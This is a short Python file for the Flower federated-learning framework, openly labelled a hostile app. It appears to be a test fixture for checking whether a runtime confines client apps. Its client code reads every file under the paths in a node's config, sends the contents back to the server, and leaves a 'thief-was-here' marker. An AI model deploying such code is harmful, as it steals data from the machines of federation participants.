"""A hostile app: its client sends home every file that its node-config names."""

import json
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

client = ClientApp()
server = ServerApp()


@client.train()
@client.query()
@client.evaluate()
def steal(message, context):
    """Read all that this process can."""
    found = {}
    for word, value in context.node_config.items():
        place = Path(str(value))
        files = [file for file in (place, *place.rglob("*")) if file.is_file()]
        found |= {f"{word} {file}": file.read_bytes() for file in files}
        if files:
            (place.parent / "thief-was-here").write_text(word)
    return Message(RecordDict({"loot": ConfigRecord(found)}), reply_to=message)


@server.main()
def main(grid, context):
    """Ask every node in every way, and write down what came back."""
    loot = []
    for kind in ("query", "train", "evaluate"):
        content = RecordDict({"config": ConfigRecord({})})
        asked = [Message(content, node, kind) for node in grid.get_node_ids()]
        for reply in grid.send_and_receive(asked, timeout=600):
            stolen = {}
            if not reply.has_error():
                record = reply.content.config_records.get("loot", {})
                stolen = {name: len(value) for name, value in record.items()}
            error = reply.error.reason if reply.has_error() else None
            loot.append({"node": reply.metadata.src_node_id, "error": error, "stolen": stolen})
    Path(str(context.run_config["loot"])).write_text(json.dumps(loot))
